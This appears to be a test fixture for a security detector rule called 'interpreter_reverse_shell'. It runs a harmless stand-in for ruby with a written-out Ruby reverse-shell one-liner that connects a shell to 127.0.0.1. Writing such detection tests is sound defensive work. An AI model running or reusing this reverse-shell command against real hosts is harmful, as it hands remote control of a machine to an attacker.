#!/bin/sh
# what: Asks a program called ruby to give a shell to the network; it does nothing.
# rule: interpreter_reverse_shell
# technique: T1095
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/ruby"
"$d/ruby" -rsocket -e 's = TCPSocket.new("127.0.0.1", 9); exec("/bin/sh -i <&%d >&%d" % [s, s])'
